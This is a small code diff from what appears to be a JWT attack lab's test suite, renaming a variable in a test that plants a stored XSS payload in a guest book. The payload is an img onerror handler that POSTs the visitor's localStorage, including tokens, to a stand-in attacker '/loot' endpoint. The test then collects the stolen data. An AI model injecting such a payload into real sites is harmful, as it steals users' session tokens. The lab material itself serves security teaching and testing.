@@ -10,8 +10,8 @@ from jwtlab.attacks.stage import Stage
     in_browser=True,
 )
 def guest_book_entry_takes_tokens(stage: Stage) -> Evidence:
-    loot = f"'{stage.evil_at('localhost')}/loot', {{method: 'POST', body: JSON.stringify(localStorage)}}"
-    stage.sign_guest_book(f'<img src="x" onerror="fetch({loot}).then(() => this.remove())">')
+    request = f"'{stage.evil_at('localhost')}/loot', {{method: 'POST', body: JSON.stringify(localStorage)}}"
+    stage.sign_guest_book(f'<img src="x" onerror="fetch({request}).then(() => this.remove())">')
     page = stage.logged_in_page(stage.visitor(), path=stage.front_end)
     page.go(stage.url + "/guestbook/").wait("!document.querySelector('[onerror]')")
     loot = "".join(one["body"] for one in stage.loot())
